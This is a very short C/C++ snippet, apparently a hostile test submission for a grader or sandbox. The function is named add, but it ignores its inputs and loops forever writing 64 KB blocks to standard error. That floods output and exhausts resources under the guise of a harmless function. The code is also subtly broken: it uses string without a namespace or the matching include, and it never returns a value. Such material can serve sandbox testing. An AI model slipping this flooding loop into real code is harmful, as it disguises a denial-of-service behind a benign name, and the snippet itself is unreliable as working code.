#include <unistd.h>
int add(int a, int b) {
    string block(65536, 'x');
    for (;;) if (write(2, block.data(), block.size())) {}
}
